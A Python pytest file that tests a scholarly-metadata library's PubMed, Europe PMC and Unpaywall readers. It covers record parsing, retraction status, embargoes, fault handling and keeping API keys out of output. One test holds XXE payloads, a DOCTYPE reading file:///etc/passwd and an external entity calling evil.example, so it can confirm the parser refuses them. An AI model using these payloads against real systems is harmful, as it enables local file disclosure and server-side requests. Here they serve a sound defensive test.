"""PubMed, Europe PMC and Unpaywall: what they add, and what they must not pass off as an answer."""

from __future__ import annotations

import gzip
import time
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import anyio
import httpx2
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from carrel.errors import Unavailable
from carrel.records import Page
from carrel.scholarly import Query, open_scholar
from carrel.scholarly.elements import xml_root
from carrel.scholarly.europepmc import europepmc_record
from carrel.scholarly.pubmedrecord import pubmed_record
from carrel.scholarly.unpaywall import unpaywall_record
from carrel.settings import Settings
from carrel.web import OpenWeb

RETRACTION = (
    '<CommentsCorrections RefType="{}"><RefSource>J Widgets. 2021 May;9(1):3</RefSource>{}</CommentsCorrections>'
)
PDF = {
    "url_for_pdf": "https://repository.example.org/1.pdf",
    "url_for_landing_page": "https://repository.example.org/1",
    "host_type": "repository",
    "version": "acceptedVersion",
    "license": "cc-by",
}
PAGE = {"url_for_pdf": None, "url_for_landing_page": "https://doi.org/10.5555/one", "host_type": "publisher"}


PRETEND_SET = (
    "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>4242</PMID><Article><Journal><JournalIssue><Volume>7</Volume>"
    "<PubDate><Year>2019</Year><Month>Mar</Month></PubDate></JournalIssue><Title>Journal of Widgets</Title></Journal>"
    "<ArticleTitle>Swallowed widgets.</ArticleTitle><Pagination><MedlinePgn>113-25</MedlinePgn></Pagination><Abstract>"
    "<AbstractText Label='METHODS'>We bent them.</AbstractText></Abstract><AuthorList>"
    "<Author><LastName>Øster</LastName>"
    "<ForeName>Ben</ForeName></Author></AuthorList><PublicationTypeList><PublicationType>Retracted Publication"
    "</PublicationType></PublicationTypeList></Article><CommentsCorrectionsList>"
    "<CommentsCorrections RefType='RetractionIn'>"
    "<RefSource>J Widgets. 2021 May;9(1):3</RefSource><PMID>55</PMID></CommentsCorrections></CommentsCorrectionsList>"
    "</MedlineCitation><PubmedData><ArticleIdList><ArticleId IdType='doi'>10.5555/one</ArticleId></ArticleIdList>"
    "</PubmedData></PubmedArticle></PubmedArticleSet>"
)


def _note(kind: str, pmid: str = "") -> str:
    return RETRACTION.format(kind, f'<PMID Version="1">{pmid}</PMID>' if pmid else "")


async def test_a_pmid_gives_every_field_of_the_pubmed_record(internet: Any, scholar: Any, shapes: Any) -> None:
    cited = (
        '<ReferenceList><Reference><Citation>x</Citation><ArticleIdList><ArticleId IdType="pubmed">77</ArticleId>'
        '<ArticleId IdType="doi">10.5555/CITED</ArticleId></ArticleIdList></Reference><Reference><ArticleIdList>'
        '<ArticleId IdType="pubmed">78</ArticleId></ArticleIdList></Reference></ReferenceList>'
    )
    internet.pubmed["4242"] = shapes["pubmed"](
        "4242", "Swallowed H<sub>2</sub>O <i>widgets</i>", doi="10.5555/ONE", pmcid="PMC99", data=cited
    )
    (answer,) = await scholar.get(["pmid:4242"])
    work = answer.work
    assert answer.state == "found"
    assert (work.title, work.date, work.venue) == ("Swallowed H2O widgets", "2019-03", "Journal of Widgets")
    assert (work.volume, work.issue, work.pages, work.language, work.type) == ("7", "2", "113-125", "en", "article")
    assert [(a.family, a.given) for a in work.authors] == [("Quill", "Ada"), ("Øster", "Ben"), ("The Widget Group", "")]
    assert work.authors[0].orcid == "0000-0002-1825-0097"
    assert work.identifiers == {"doi": "10.5555/one", "pmid": "4242", "pmcid": "PMC99"}  # not those of what it cites
    assert work.references == ("doi:10.5555/cited", "pmid:78")
    assert work.abstract == "Methods: We bent widgets at p < 0.05."
    assert [copy.url for copy in work.access] == ["https://pmc.ncbi.nlm.nih.gov/articles/PMC99/"]
    assert (work.status.state, work.status.provider, work.status.as_of) == ("none_known", "pubmed", "2026-06-01")


async def test_a_copy_in_pmc_is_no_open_copy_before_its_embargo_ends(internet: Any, scholar: Any, shapes: Any) -> None:
    for pmid, year in (("1", "2026"), ("2", "2025")):
        date = (
            f'<PubMedPubDate PubStatus="pmc-release"><Year>{year}</Year><Month>12</Month><Day>1</Day></PubMedPubDate>'
        )
        internet.pubmed[pmid] = shapes["pubmed"](
            pmid, f"Widget {pmid}", pmcid=f"PMC{pmid}", data=f"<History>{date}</History>"
        )
    later, free = await scholar.get(["pmid:1", "pmid:2"])
    assert later.work.access == ()
    assert len(free.work.access) == 1


async def test_a_pmcid_is_found_through_its_pmid(internet: Any, scholar: Any, shapes: Any) -> None:
    internet.pubmed["4242"] = shapes["pubmed"]("4242", "Swallowed widgets", pmcid="PMC99")
    found, other = await scholar.get(["PMC99", "PMC100"])
    assert found.work.identifiers["pmid"] == "4242"
    assert other.state == "unavailable"  # an article may be in PMC and not in PubMed
    assert len(internet.requests("pubmed")) == 2


async def test_fifty_pmids_are_one_request(internet: Any, scholar: Any, shapes: Any) -> None:
    for n in range(1, 51):
        internet.pubmed[str(n)] = shapes["pubmed"](str(n), f"Widget number {n} of fifty")
    answers = await scholar.get([f"pmid:{n}" for n in range(1, 51)])
    assert [a.work.title for a in answers] == [f"Widget number {n} of fifty" for n in range(1, 51)]
    assert len(internet.requests("pubmed")) == 1


async def test_a_pmid_left_out_of_an_answer_is_absent_only_in_pubmeds_own_words(
    internet: Any, make_scholar: Any, shapes: Any
) -> None:
    whole = internet._pubmed

    def silent(request: httpx2.Request) -> httpx2.Response:
        if "esummary" in request.url.path:
            return httpx2.Response(200, json={"result": {"uids": ["1"], "1": {"uid": "1", "title": "It is there"}}})
        return whole(request)  # type: ignore[no-any-return]

    internet.faults["pubmed"] = silent
    (answer,) = await make_scholar().get(["pmid:1"])
    assert answer.state == "unavailable"
    del internet.faults["pubmed"]
    (answer,) = await make_scholar().get(["pmid:1"])
    assert answer.state == "not_found"


@pytest.mark.parametrize(
    "body", ["", "<html>busy</html>", "<PubmedArticleSet><PubmedArt", "<eFetchResult><ERROR>x</ERROR></eFetchResult>"]
)
async def test_a_search_whose_records_do_not_come_is_a_failure(
    body: str, internet: Any, make_scholar: Any, shapes: Any
) -> None:
    internet.pubmed["4242"] = shapes["pubmed"]("4242", "Swallowed widgets")
    whole = internet._pubmed
    internet.faults["pubmed"] = lambda r: httpx2.Response(200, text=body) if "efetch" in r.url.path else whole(r)
    found = await make_scholar().find(Query("widgets"), sources=["pubmed"])
    assert found.statuses[0].state == "unavailable"


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE PubmedArticleSet [<!ENTITY a "boom">]>',
        '<!DOCTYPE PubmedArticleSet SYSTEM "file:///etc/passwd" [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>',
        "<!DOCTYPE html>",
    ],
)
async def test_entities_and_document_types_of_its_own_are_refused(
    declared: str, internet: Any, make_scholar: Any, shapes: Any
) -> None:
    article = shapes["pubmed"]("4242", "Swallowed widgets")
    internet.faults["pubmed"] = lambda r: httpx2.Response(
        200, text=f"<?xml version='1.0'?>{declared}<PubmedArticleSet>{article}</PubmedArticleSet>"
    )
    (answer,) = await make_scholar().get(["pmid:4242"])
    assert answer.state == "unavailable"
    assert len(internet.requests("pubmed")) == 1


STANDINGS = [
    (("Journal Article", "Retracted Publication"), _note("RetractionIn", "55"), "retracted", "pmid:55"),
    (("Retracted Publication",), "", "retracted", ""),
    (("Journal Article",), _note("RetractionIn", "55"), "retracted", "pmid:55"),
    (("Journal Article",), _note("ErratumIn", "55") + _note("RetractionIn", "56"), "retracted", "pmid:56"),
    (("Journal Article",), _note("ErratumIn", "55"), "corrected", "pmid:55"),
    (("Journal Article",), _note("ExpressionOfConcernIn", "55"), "expression_of_concern", "pmid:55"),
    (("Journal Article",), _note("PartialRetractionIn", "55"), "corrected", "pmid:55"),
    (("Retraction of Publication",), _note("RetractionOf", "55"), "none_known", ""),
    (("Published Erratum",), _note("ErratumFor", "55"), "none_known", ""),
    (("Journal Article",), _note("CommentIn", "55") + _note("Cites", "56"), "none_known", ""),
]


@pytest.mark.parametrize(("types", "notes", "state", "notice"), STANDINGS)
async def test_pubmed_tells_the_standing_and_takes_no_notice_for_a_retracted_work(
    types: tuple[str, ...], notes: str, state: str, notice: str, internet: Any, scholar: Any, shapes: Any
) -> None:
    internet.pubmed["4242"] = shapes["pubmed"]("4242", "Swallowed widgets", types=types, notes=notes)
    (answer,) = await scholar.get(["pmid:4242"])
    status = answer.work.status
    assert (status.state, status.notice, status.provider) == (state, notice, "pubmed")
    assert ("this is itself a notice" in status.reason) == any(kind in str(types) for kind in ("of Pub", "Erratum"))
    assert status.date == ("2021" if notice else "")


async def test_a_retraction_only_pubmed_knows_of_reaches_a_work_asked_for_by_doi(
    internet: Any, scholar: Any, shapes: Any
) -> None:
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Swallowed widgets")
    ids = {"pmid": "https://pubmed.ncbi.nlm.nih.gov/4242"}
    internet.openalex.append(shapes["openalex"](1, "Swallowed widgets", "10.5555/one", ids=ids))
    internet.pubmed["4242"] = shapes["pubmed"](
        "4242", "Swallowed widgets", doi="10.5555/one", notes=_note("RetractionIn", "55")
    )
    (answer,) = await scholar.get(["10.5555/one"])
    assert answer.work.status.state == "retracted"
    assert answer.work.provenance["status"] == "pubmed"
    assert answer.work.provenance["abstract"] == "pubmed"
    assert any(conflict.startswith("status: ") for conflict in answer.work.conflicts)
    assert answer.work.title == "Swallowed widgets"


async def test_a_wrong_pmid_does_not_bring_another_papers_abstract(internet: Any, scholar: Any, shapes: Any) -> None:
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Straight widgets at home")
    ids = {"pmid": "https://pubmed.ncbi.nlm.nih.gov/4242"}
    internet.openalex.append(shapes["openalex"](1, "Straight widgets at home", "10.5555/one", ids=ids))
    internet.pubmed["4242"] = shapes["pubmed"](
        "4242", "Migraine in whales", doi="10.5555/whales", types=("Retracted Publication",)
    )
    (answer,) = await scholar.get(["10.5555/one"])
    assert answer.work.found_by == ("crossref", "openalex")
    assert answer.work.status.state == "none_known"
    assert answer.work.abstract == ""


async def test_books_of_pubmed_are_read_too(internet: Any, scholar: Any) -> None:
    internet.pubmed["4242"] = (
        "<PubmedBookArticle><BookDocument><PMID>4242</PMID><ArticleIdList>"
        "<ArticleId IdType='bookaccession'>NBK1</ArticleId></ArticleIdList>"
        "<Book><Publisher><PublisherName>StatWidgets</PublisherName></Publisher>"
        "<BookTitle>Widgets A to Z</BookTitle><PubDate><Year>2020</Year></PubDate></Book>"
        "<ArticleTitle>Bent Widgets</ArticleTitle><AuthorList><Author><LastName>Quill</LastName>"
        "<Initials>A</Initials></Author></AuthorList><Abstract><AbstractText>They bend.</AbstractText></Abstract>"
        "</BookDocument></PubmedBookArticle>"
    )
    (answer,) = await scholar.get(["pmid:4242"])
    work = answer.work
    assert (work.title, work.venue, work.type, work.year) == ("Bent Widgets", "Widgets A to Z", "chapter", 2020)
    assert (work.authors[0].family, work.authors[0].given, work.abstract) == ("Quill", "A", "They bend.")


@pytest.mark.parametrize(
    ("query", "term"),
    [
        (Query("how do bent widgets break"), "(bent AND widgets AND break)"),
        (Query("bent AND widgets[ti] NOT (steel) OR break*"), "(bent AND widgets AND ti AND steel AND break)"),
        (Query("x", title="On the bending of widgets"), "bending[ti] AND widgets[ti]"),
        (Query("widgets", author="Ada Quill", year_from=2001), "(widgets) AND quill[au] AND 2001:3000[dp]"),
        (Query("widgets", open_access=True), "(widgets) AND free full text[sb]"),
        (Query("widgets", types=("preprint",)), "(widgets) AND preprint[pt]"),
        (Query("widgets", types=("article",)), "(widgets) NOT preprint[pt]"),
    ],
)
async def test_a_query_is_put_in_pubmeds_language_word_by_word(
    query: Query, term: str, internet: Any, scholar: Any
) -> None:
    await scholar.find(query, sources=["pubmed"])
    asked = parse_qs(urlsplit(internet.requests("pubmed")[0][1]).query)["term"][0]
    assert asked == term or asked == term.replace(" AND ", " OR ")


async def test_europe_pmc_gives_abstracts_open_copies_and_preprints(internet: Any, scholar: Any, shapes: Any) -> None:
    links = [
        {"availabilityCode": "S", "documentStyle": "doi", "site": "DOI", "url": "https://doi.org/10.5555/one"},
        {"availabilityCode": "OA", "documentStyle": "html", "site": "Europe_PMC", "url": "https://europepmc.org/a"},
        {"availabilityCode": "OA", "documentStyle": "pdf", "site": "Europe_PMC", "url": "https://europepmc.org/a.pdf"},
    ]
    internet.europepmc += [
        shapes["europepmc"](
            "4242", "Swallowed widgets", doi="10.5555/One", fullTextUrlList={"fullTextUrl": links}, license="cc by"
        ),
        shapes["europepmc"](
            "PPR1",
            "Early widgets",
            source="PPR",
            pmid=None,
            doi="10.1101/one",
            journalInfo=None,
            bookOrReportDetails={"publisher": "bioRxiv", "yearOfPublication": 2019},
            commentCorrectionList={"commentCorrection": [{"type": "Preprint of", "id": "4242", "source": "MED"}]},
        ),
    ]
    found = await scholar.find(Query("widgets"), sources=["europepmc"])
    article, preprint = found.works
    assert (article.title, article.date, article.pages, article.cited_by) == (
        "Swallowed widgets",
        "2019-03-01",
        "113-125",
        5,
    )
    assert [a.family for a in article.authors] == ["Quill", "Øster", "The Widget Group"]
    assert article.identifiers == {"doi": "10.5555/one", "pmid": "4242"}
    assert article.abstract == "Methods: We bent widgets."
    assert [(c.url, c.media_type, c.licence) for c in article.access] == [
        ("https://europepmc.org/a.pdf", "application/pdf", "cc by"),
        ("https://europepmc.org/a", "text/html", "cc by"),
    ]
    assert (preprint.type, preprint.venue, preprint.identifiers) == ("preprint", "bioRxiv", {"doi": "10.1101/one"})


async def test_a_work_without_an_abstract_gets_it_from_europe_pmc(internet: Any, scholar: Any, shapes: Any) -> None:
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Swallowed widgets")
    internet.europepmc.append(shapes["europepmc"]("4242", "Swallowed widgets", doi="10.5555/one"))
    (answer,) = await scholar.get(["10.5555/one"])
    assert answer.work.provenance["abstract"] == "europepmc"
    assert answer.work.identifiers["pmid"] == "4242"


async def test_an_error_code_of_europe_pmc_is_a_failure(internet: Any, scholar: Any) -> None:
    for body in ({"errCode": 404, "errMsg": "x"}, {"hitCount": 3, "resultList": {"result": []}}, {"hitCount": "3"}):
        internet.faults["europepmc"] = lambda r, body=body: httpx2.Response(200, json=body)
        found = await scholar.find(Query(f"widgets {len(body)}"), sources=["europepmc"])
        assert found.statuses[0].state == "unavailable"


async def test_europe_pmcs_second_page_follows_its_first(internet: Any, scholar: Any, shapes: Any) -> None:
    internet.europepmc += [shapes["europepmc"](str(n), f"Widgets, part {n}") for n in range(1, 26)]
    first = await scholar.find(Query("widgets", limit=10), sources=["europepmc"])
    second = await scholar.find(Query("widgets", limit=10), sources=["europepmc"], cursor=first.next_cursor)
    third = await scholar.find(Query("widgets", limit=10), sources=["europepmc"], cursor=second.next_cursor)
    pmids = [work.identifiers["pmid"] for found in (first, second, third) for work in found.works]
    assert sorted(map(int, pmids)) == list(range(1, 26))
    assert third.next_cursor == ""


async def test_unpaywall_adds_open_copies_to_what_is_found_and_only_with_a_contact(
    internet: Any, make_scholar: Any, shapes: Any
) -> None:
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Swallowed widgets")
    internet.unpaywall["10.5555/one"] = shapes["unpaywall"]("10.5555/one", "Swallowed widgets", PAGE, PDF)
    (silent,) = await make_scholar().get(["10.5555/one"])
    assert silent.work.access == ()
    assert internet.requests("unpaywall") == []
    (answer,) = await make_scholar(contact="me@example.org").get(["10.5555/one"])
    assert [(c.url, c.version) for c in answer.work.access] == [
        ("https://repository.example.org/1.pdf", "acceptedVersion"),
        ("https://doi.org/10.5555/one", ""),
    ]
    assert answer.work.provenance["title"] == "crossref"


async def test_a_doi_unpaywall_does_not_hold_is_still_found(internet: Any, make_scholar: Any, shapes: Any) -> None:
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Swallowed widgets")
    (answer,) = await make_scholar(contact="me@example.org").get(["10.5555/one"])
    assert answer.state == "found"
    assert next(s.state for s in answer.statuses if s.provider == "unpaywall") == "empty"


UNPAYWALL_FAULTS = {
    "refused contact": httpx2.Response(422, json={"error": True, "message": "Please use your own email"}),
    "portal": httpx2.Response(404, text="<html>Not found</html>"),
    "another 404": httpx2.Response(404, json={"detail": "no route"}),
    "another work": httpx2.Response(200, json={"doi": "10.5555/two", "is_oa": True}),
    "an error in 200": httpx2.Response(200, json={"error": True, "message": "x"}),
    "html": httpx2.Response(200, text="<!doctype html>"),
    "429": httpx2.Response(429),
}


@pytest.mark.parametrize("fault", UNPAYWALL_FAULTS)
async def test_unpaywall_failing_is_told_beside_the_work(
    fault: str, internet: Any, make_scholar: Any, shapes: Any
) -> None:
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Swallowed widgets")
    internet.faults["unpaywall"] = lambda r: UNPAYWALL_FAULTS[fault]
    (answer,) = await make_scholar(contact="me@example.org").get(["10.5555/one"])
    assert answer.state == "found"
    status = next(s for s in answer.statuses if s.provider == "unpaywall")
    assert not status.answered
    assert ("CARREL_CONTACT" in status.detail) == (fault == "refused contact")


async def test_a_silent_helper_does_not_hold_up_a_good_answer(
    internet: Any, make_scholar: Any, shapes: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("carrel.scholarly.scholar._PATIENCE", 0.05)
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Swallowed widgets")
    scholar = make_scholar(contact="me@example.org", deadline=60.0)

    async def silent(_: httpx2.Request) -> httpx2.Response:
        await anyio.sleep_forever()
        raise AssertionError

    internet.faults |= {"unpaywall": silent, "europepmc": silent}
    with anyio.fail_after(20):
        (answer,) = await scholar.get(["10.5555/one"])
    assert answer.state == "found"
    assert not {s.provider: s.answered for s in answer.statuses}["unpaywall"]


async def test_contact_and_key_stand_in_no_answer(internet: Any, make_scholar: Any) -> None:
    internet.crossref["10.5555/one"] = {"DOI": "10.5555/one", "title": ["Swallowed widgets"]}
    for name in ("pubmed", "unpaywall", "europepmc"):
        internet.faults[name] = lambda r: httpx2.ReadError(f"reset at {r.url}", request=r)
    scholar = make_scholar(contact="me@example.org", keys={"pubmed": "sesame"})
    answers = await scholar.get(["10.5555/one", "pmid:4242"])
    found = await scholar.find(Query("widgets"), sources=["pubmed", "europepmc"])
    told = str(answers) + str(found)
    assert "sesame" not in told
    assert "me@example.org" not in told
    asked = parse_qs(urlsplit(internet.requests("pubmed")[0][1]).query)
    assert (asked["tool"], asked["email"], asked["api_key"]) == (["carrel"], ["me@example.org"], ["sesame"])


def _all_bytes(folder: Path) -> bytes:
    held = [path.read_bytes() for path in folder.rglob("*") if path.is_file()]
    return b"".join(gzip.decompress(body) if body.startswith(b"\x1f\x8b") else body for body in held)


async def test_contact_and_key_lie_in_no_file_and_go_to_no_other_host(
    internet: Any, tmp_path: Path, shapes: Any
) -> None:
    internet.crossref["10.5555/one"] = shapes["crossref"]("10.5555/one", "Swallowed widgets")
    internet.unpaywall["10.5555/one"] = shapes["unpaywall"]("10.5555/one", "Swallowed widgets", PDF)
    internet.pubmed["4242"] = shapes["pubmed"]("4242", "Swallowed widgets", doi="10.5555/one")

    async def lasting(request: httpx2.Request) -> httpx2.Response:
        answer: httpx2.Response = await internet(request)
        answer.headers["cache-control"] = "max-age=600"
        return answer

    told = {"contact": "me@example.org", "keys": {"pubmed": "sesame"}}
    for options in ({"reality": "cached"}, {"record": tmp_path / "run.warc.gz"}):
        setting = Settings(data=tmp_path / "data", models=tmp_path, **told, **options)  # type: ignore[arg-type]
        web = OpenWeb(setting)
        scholar, client = open_scholar(setting, web=web, transport=httpx2.MockTransport(lasting))
        answers = await scholar.get(["10.5555/one", "pmid:4242"])
        await client.aclose()
        web.close()
        assert [answer.state for answer in answers] == ["found", "found"]
    written = _all_bytes(tmp_path)
    assert b"Swallowed widgets" in written
    assert b"sesame" not in written
    assert b"example.org?" not in written
    assert b"me@example.org" not in written
    assert b"me%40example.org" not in written


_PARTS = st.sampled_from(
    ["<Year>", "</Year>", "<PMID>1</PMID>", "4242", "&#0;", "\u202e", "x" * 50, "<i/>", "", "<", "2019"]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 3_000), _PARTS), max_size=4))
def test_no_damage_to_pubmeds_xml_breaks_the_reader(damage: list[tuple[int, str]]) -> None:
    body = PRETEND_SET
    for at, part in damage:
        body = body[:at] + part + body[at + len(part) :]
    page = Page("u", "u", 200, "text/xml", "", body.encode("utf-8", "replace"), {}, "")
    try:
        root = xml_root(page, "pubmed", ("PubmedArticleSet",))
    except Unavailable:
        return
    for entry in root:
        record = pubmed_record(entry, "2026-06-01")
        assert record is None or record.work.identifiers["pmid"].isdigit()


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3),
    max_leaves=8,
)
_FIELDS = [
    "id", "source", "pmid", "pmcid", "doi", "title", "authorList", "journalInfo", "pubYear", "pageInfo", "abstractText",
    "pubTypeList", "fullTextUrlList", "commentCorrectionList", "bookOrReportDetails", "language", "citedByCount",
    "oa_locations", "best_oa_location", "z_authors", "year", "published_date", "genre", "is_oa",
]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(st.sampled_from(_FIELDS), _json))
def test_no_shape_of_json_breaks_the_readers(answer: dict[str, Any]) -> None:
    europepmc_record(answer, "2026-06-01")
    unpaywall_record(answer)


def test_hostile_xml_is_refused_or_read_in_no_time() -> None:
    deep = "<PubmedArticleSet>" + "<a>" * 200_000 + "</a>" * 200_000 + "</PubmedArticleSet>"
    many = "<Author><LastName>Quill</LastName></Author>" * 100_000
    for body in (deep, PRETEND_SET.replace("<Author><LastName>Øster", many + "<Author><LastName>Øster")):
        page = Page("u", "u", 200, "text/xml", "", body.encode(), {}, "")
        started = time.process_time()
        for entry in xml_root(page, "pubmed", ("PubmedArticleSet",)):
            record = pubmed_record(entry, "2026-06-01")
            assert record is None or len(record.work.authors) == 5_000
        assert time.process_time() - started < 5.0
